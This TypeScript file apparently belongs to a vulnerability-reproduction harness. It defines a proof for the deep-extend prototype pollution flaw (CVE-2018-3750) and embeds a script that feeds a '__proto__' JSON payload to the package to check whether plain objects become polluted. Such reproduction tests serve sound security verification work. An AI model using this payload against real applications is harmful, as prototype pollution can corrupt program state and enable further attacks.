import { defineProof } from '../define-proof.ts';

/** Extends by an object whose key names the prototype and looks for its property on a plain object. */
export const deepExtendProto = defineProof({
  name: 'deep-extend-proto',
  ids: ['CVE-2018-3750', 'GHSA-hr2v-3952-633q'],
  ecosystem: 'npm',
  package: 'deep-extend',
  kind: 'prototype_pollution',
  describes: 'Extends by an object whose key names the prototype and looks for its property on a plain object.',
  shownOn: { vulnerable: '0.5.0', fixed: '0.5.1' },
  source: `
module.exports = ({ load }) => {
  const subject = load();
  const answers = subject({ a: 1 }, { b: 2 }).b === 2;
  try {
    subject({}, JSON.parse('{"__proto__": {"polluted": true}}'));
  } catch {
    // Refusing is an answer as well.
  }
  const reproduced = ({}).polluted !== undefined;
  return { reproduced, answers };
};
`,
});
